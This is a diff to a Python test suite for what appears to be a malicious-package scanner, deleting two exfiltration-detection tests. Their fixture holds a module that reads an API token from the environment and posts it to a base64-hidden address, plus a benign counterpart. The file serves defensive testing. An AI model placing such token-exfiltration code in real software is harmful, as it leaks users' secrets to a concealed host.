@@ -1899,36 +1899,6 @@ def test_decoded_bytes_copied_into_a_plain_buffer_are_data():
     assert not found(result, "intent.download-execute")
 
 
-# -- secrets sent on request to a destination hidden by encoding ------------------------------
-
-_SECRET_UPLOAD = """
-    import base64
-    import os
-
-    import requests
-
-    def sync(payload):
-        token = os.environ["DEMO_API_TOKEN"]
-        url = {url}
-        return requests.post(url, json=payload, headers={{"Authorization": token}}).json()
-"""
-
-
-def test_a_secret_sent_on_request_to_a_decoded_address_is_exfiltration():
-    url = 'base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LWNkbi5uZXQvdQ==").decode()'
-    src = _SECRET_UPLOAD.format(url=url)
-    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sync.py": src})
-    assert "high" in severities(result, "intent.exfiltration")
-    assert result.verdict in FLAGGED
-
-
-def test_an_api_token_sent_on_request_to_its_service_is_not_exfiltration():
-    src = _SECRET_UPLOAD.format(url='"https://api.demo-service.com/v1/sync"')
-    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sync.py": src})
-    assert not found(result, "intent.exfiltration")
-    assert result.verdict not in FLAGGED
-
-
 # -- a secret read by one helper and sent by another ------------------------------------------
 
 _HELPER_SEND = """
